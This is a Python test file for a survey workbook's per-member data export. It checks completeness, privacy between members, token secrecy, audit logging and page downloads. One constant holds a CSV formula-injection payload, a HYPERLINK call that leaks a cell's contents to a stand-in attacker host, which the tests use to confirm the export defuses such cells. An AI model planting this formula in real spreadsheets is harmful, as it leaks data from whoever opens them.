"""A member's own copy (SQLite and PostgreSQL): everything kept about them, every version in order,
and nothing about anyone else; the CSV defuses formulas, the JSON round-trips their text exactly;
each copy is in the audit trail by id; and the page makes it of its link's own respondent."""

from __future__ import annotations

import base64
import csv
import io
import json
import re

import pytest

from workbook.exports.own_copy import COLUMNS, FORMAT, own_copy, own_copy_csv, own_copy_json
from workbook.instruments import find_instrument
from workbook.store.tokens import hash_token
from workbook.team.admin import create_team, revoke_member
from workbook.team.mail import DEFAULT_INVITATION, MailServer, send_invitations

from pg_fixtures import backend_store, backend_url  # noqa: F401  (fixtures: each test runs on both backends)
from smtp_servers import smtp_server

#: Sentences only one person wrote: finding one in a copy means it leaked.
BENS_SENTENCE = "Our budget is decided by the regional office qx41"
ANAS_SENTENCE = "I never told anyone about the reorganisation pz73"
DEVS_SENTENCE = "Ana listens, then decides alone vk58"
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click me")'
FREE_TEXT = "Zoë's «budget» — 100 % 🙂\n\tsecond line, kept as typed  "

LEADER = find_instrument("leader-or-manager")
RATING = next(i for i in LEADER.items if i.kind == "rating")
PROCESS = find_instrument("convergence-process")
TEXT = next(i for i in PROCESS.items if i.kind == "text")
SKILLS = find_instrument("leader-skills")
SKILL = next(i for i in SKILLS.items if i.kind == "rating")


def goal(number, name):
    return {"id": f"g{number}", "name": name, "owner": "", "priority": "high", "horizon": "within a year"}


def programme(number, name):
    return {"id": f"p{number}", "name": name, "reach": None, "cost": 1200, "evaluation": "behaviour"}


def token_of(url: str) -> str:
    return re.search(r"invite=([A-Za-z0-9_-]+)", url).group(1)


def team_with_history(store):
    """A team where Ben answered (himself and about Ana), planned, mapped and was emailed, and where
    Ana and Dev answered too, each with a sentence only they wrote."""
    made = create_team(store, "Blue", ["Ana", ("Ben", "peer"), "Cleo", ("Dev", "peer")], leader="Ana")
    round_id = made.round.id
    people = {link.member: link.respondent_id for link in made.links}
    ana, ben, dev = people["Ana"], people["Ben"], people["Dev"]
    store.record_answer(ben, round_id, LEADER, RATING.id, 3)
    store.record_answer(ben, round_id, LEADER, RATING.id, 4, note="changed my mind")
    store.record_answer(ben, round_id, PROCESS, TEXT.id, BENS_SENTENCE)
    store.record_answer(ben, round_id, LEADER, RATING.id, None)  # cleared: an event too
    store.record_answer(ben, round_id, SKILLS, SKILL.id, 2, subject_id=ana)
    store.record_answer(ana, round_id, PROCESS, TEXT.id, ANAS_SENTENCE)
    store.record_answer(ana, round_id, SKILLS, SKILL.id, 5)
    store.record_answer(dev, round_id, SKILLS, SKILL.id, 1, note=DEVS_SENTENCE, subject_id=ana)
    first = [{"id": "a1", "what": "Meet the regional office", "gap": "", "owner": "Ben", "due": "",
              "measure": "", "level": "", "status": "planned"}]
    store.save_plan(ben, round_id, first)
    store.save_plan(ben, round_id, [dict(first[0], due="2027-01-15", status="in progress")])
    store.save_plan(ana, round_id, [dict(first[0], what=ANAS_SENTENCE)])
    store.save_worksheet(ben, round_id, "convergence-map", {"goals": [goal(1, "Grow sales")]})
    store.save_worksheet(ben, round_id, "convergence-map",
                         {"goals": [goal(1, "Grow sales")], "programmes": [programme(1, "Sales academy")],
                          "links": [{"goal": "g1", "programme": "p1", "strength": "direct"}]})
    store.save_worksheet(ana, round_id, "convergence-map", {"goals": [goal(1, ANAS_SENTENCE)]})
    store.save_place(ben, round_id, "leader-skills")
    store.save_place(ana, round_id, "0-summary")
    store.set_member_contact(ben, "ben@example.org", "fr")
    store.set_member_contact(ana, "ana@example.org")
    with smtp_server() as box:
        report = send_invitations(store, "Blue", MailServer.from_url(
            f"smtp://127.0.0.1:{box.port}?starttls=no", "Coach <coach@example.org>"), DEFAULT_INVITATION)
        emailed = [token for m in box.to("ben@example.org") + box.to("ana@example.org")
                   for token in re.findall(r"invite=([A-Za-z0-9_-]+)", m.get_content())]
    assert report.sent == ("Ana", "Ben")
    return made, people, [token_of(link.url) for link in made.links if link.url] + emailed


def test_a_member_gets_everything_kept_about_them_in_order(backend_store):
    store = backend_store
    made, people, tokens = team_with_history(store)
    ana, ben = people["Ana"], people["Ben"]
    document = own_copy(store, ben, actor="member")

    assert (document["format"], document["version"]) == (FORMAT, 1)
    assert {k: document["respondent"][k] for k in ("id", "name", "team", "email", "language")} == {
        "id": ben, "name": "Ben", "team": "Blue", "email": "ben@example.org", "language": "fr"}
    assert [(a["instrument_id"], a["item_id"], a["value"], a["note"], a["about"]) for a in document["answers"]] == [
        (LEADER.id, RATING.id, 3, None, None),
        (LEADER.id, RATING.id, 4, "changed my mind", None),
        (PROCESS.id, TEXT.id, BENS_SENTENCE, None, None),
        (LEADER.id, RATING.id, None, None, None),
        (SKILLS.id, SKILL.id, 2, None, {"id": ana, "name": "Ana"}),
    ]
    assert all(a["round"] == made.round.label and a["instrument_version"] == 1 for a in document["answers"])
    assert document["answers"][0]["item"] == RATING.text
    times = [a["recorded_at"] for a in document["answers"]]
    assert times == sorted(times)
    assert [(p["version"], p["actions"][0]["status"], p["actions"][0]["due"]) for p in document["plans"]] == [
        (1, "planned", ""), (2, "in progress", "2027-01-15")]
    assert [(w["name"], w["version"], [g["name"] for g in w["data"]["goals"]], len(w["data"]["programmes"]))
            for w in document["worksheets"]] == [("convergence-map", 1, ["Grow sales"], 0),
                                                 ("convergence-map", 2, ["Grow sales"], 1)]
    assert [(p["round_id"], p["step"]) for p in document["places"]] == [(made.round.id, "leader-skills")]
    assert [(m["kind"], m["email"], m["status"]) for m in document["messages"]] == [
        ("invitation", "ben@example.org", "sent")]
    assert document["messages"][0]["sent_at"] >= document["messages"][0]["created_at"]
    assert [(link["rater_group"], link["about"], link["revoked_at"]) for link in document["links"]] == [
        ("self", None, None), ("peer", {"id": ana, "name": "Ana"}, None)]
    # The invitation carried a fresh token of each of his links.
    assert [len(link["sent_again_at"]) for link in document["links"]] == [1, 1]

    revoke_member(store, "Blue", "Ben")
    revoked = own_copy(store, ben)
    assert all(link["revoked_at"] >= link["made_at"] for link in revoked["links"])

    copies = own_copy_json(document) + own_copy_csv(document)
    assert len(tokens) >= 8  # the six links create_team made, and the fresh ones the two emails carried
    for secret in (*tokens, *(hash_token(t) for t in tokens)):
        assert secret.encode() not in copies, "a copy never holds a link's token or its hash"
    entries = [e for e in store.entries() if e.action == "own-copy"]
    assert [(e.actor, e.team, e.detail) for e in entries] == [
        ("member", "Blue", f"respondent {ben}: everything kept about them")]


def test_nothing_about_anyone_else_is_in_a_members_copy(backend_store):
    store = backend_store
    _, people, _ = team_with_history(store)
    ana, ben = people["Ana"], people["Ben"]
    for fmt in (own_copy_json, own_copy_csv):
        data = fmt(own_copy(store, ben)).decode("utf-8")
        assert BENS_SENTENCE in data
        for theirs in (ANAS_SENTENCE, DEVS_SENTENCE, "ana@example.org", "Cleo", "Dev"):
            assert theirs not in data, f"{theirs!r} is someone else's"
    document = own_copy(store, ben)
    assert {a["about"]["id"] if a["about"] else None for a in document["answers"]} == {None, ana}
    assert {(a["value"], a["instrument_id"]) for a in document["answers"]}.isdisjoint({(5, SKILLS.id), (1, SKILLS.id)})
    # And the leader's own copy holds her answers, not Ben's nor Dev's about her.
    leaders = own_copy_json(own_copy(store, ana)).decode("utf-8")
    assert ANAS_SENTENCE in leaders and BENS_SENTENCE not in leaders and DEVS_SENTENCE not in leaders
    assert [a["value"] for a in own_copy(store, ana)["answers"]] == [ANAS_SENTENCE, 5]


def test_the_csv_defuses_a_hostile_cell_and_keeps_the_layout(backend_store):
    store = backend_store
    made = create_team(store, "Red", ["Eve", "Fay", "Gus"])
    eve = made.links[0].respondent_id
    store.record_answer(eve, made.round.id, PROCESS, TEXT.id, HOSTILE, note="+SUM(A1:A9)")
    store.save_plan(eve, made.round.id, [{"id": "a1", "what": "@cmd", "gap": "", "owner": "", "due": "",
                                          "measure": "", "level": "", "status": "planned"}])
    rows = list(csv.DictReader(io.StringIO(own_copy_csv(own_copy(store, eve)).decode("utf-8"))))
    assert tuple(rows[0]) == COLUMNS
    assert [row["record"] for row in rows] == ["person", "link", "answer", "plan"]
    answer = rows[2]
    assert (answer["value"], answer["note"]) == ("'" + HOSTILE, "'+SUM(A1:A9)")
    assert json.loads(rows[3]["value"])[0]["what"] == "@cmd"  # a JSON cell starts with "[": nothing to run
    for row in rows:
        for cell in row.values():
            assert cell[:1] not in ("=", "+", "-", "@", "|"), f"{cell!r} would run in a spreadsheet"


def test_the_json_round_trips_free_text_exactly(backend_store):
    store = backend_store
    made = create_team(store, "Green", ["Hana", "Ivo", "Jon"])
    hana = made.links[0].respondent_id
    store.record_answer(hana, made.round.id, PROCESS, TEXT.id, FREE_TEXT, note=HOSTILE)
    document = own_copy(store, hana)
    data = own_copy_json(document)
    assert data.decode("utf-8").count("🙂") == 1  # UTF-8 as written, not \u escapes
    again = json.loads(data)
    assert again == document
    assert (again["answers"][0]["value"], again["answers"][0]["note"]) == (FREE_TEXT, HOSTILE)


def test_a_copy_of_no_one_is_refused_and_records_nothing(backend_store):
    from workbook.errors import InputError, NotFoundError

    with pytest.raises(NotFoundError, match="no respondent with id 99"):
        own_copy(backend_store, 99, actor="member")
    with pytest.raises(InputError, match="a respondent id must be a whole number"):
        own_copy(backend_store, "1", actor="member")
    assert backend_store.entries() == []


def _downloads(box) -> dict[str, bytes]:
    """The files of the own copy's links, by format."""
    found = re.findall(r'class="lb-own-copy-(\w+)" download="[^"]+" href="data:[^;]+;charset=utf-8;base64,([^"]+)"',
                       box.links.value)
    return {fmt: base64.b64decode(data) for fmt, data in found}


def test_the_page_makes_the_copy_of_its_links_own_respondent(store, sent):
    from pages.own_copy import OwnCopy
    from pages.visit import visit_for_invite
    from pages.workbook_page import WorkbookPage
    from workbook.instruments.programme import Programme, resolve_instruments

    blue, people, _ = team_with_history(store)
    token = token_of(next(link.url for link in blue.links if link.member == "Ben" and link.subject is None))
    made = create_team(store, "Closed", ["Kim", "Lou", "Max"])
    store.record_answer(made.links[0].respondent_id, made.round.id, PROCESS, TEXT.id, "Kim's own words")
    page = WorkbookPage(Programme(), resolve_instruments(Programme()), store)
    page.open_for_visitor(visit_for_invite(store, token))
    page.stepper.go(page.stepper.titles.index("Summary"))
    box = next(w for w in page.stepper.current.children[0].children if isinstance(w, OwnCopy))
    assert box.links.value == ""
    box.button.click()
    files = _downloads(box)
    assert set(files) == {"json", "csv"}
    document = json.loads(files["json"])
    assert document["respondent"]["id"] == people["Ben"]
    assert BENS_SENTENCE in files["csv"].decode("utf-8") and "Kim's own words" not in files["csv"].decode("utf-8")
    page.stepper.go(0)
    assert box.links.value == "", "a copy is one moment: it goes when the visitor leaves the step"

    # A closed round's page is read-only, and still offers the member their copy.
    from workbook.team.admin import close_round

    kim = made.links[0]
    close_round(store, "Closed")
    closed = WorkbookPage(Programme(), resolve_instruments(Programme()), store)
    closed.open_for_visitor(visit_for_invite(store, token_of(kim.url)))
    assert closed.visit.read_only
    closed.stepper.go(closed.stepper.titles.index("Summary"))
    box = next(w for w in closed.stepper.current.children[0].children if isinstance(w, OwnCopy))
    assert not box.button.disabled
    box.button.click()
    assert "Kim's own words" in _downloads(box)["json"].decode("utf-8")
    assert [e.detail for e in store.entries() if e.action == "own-copy"] == [
        f"respondent {people['Ben']}: everything kept about them", f"respondent {kim.respondent_id}: everything kept about them"]
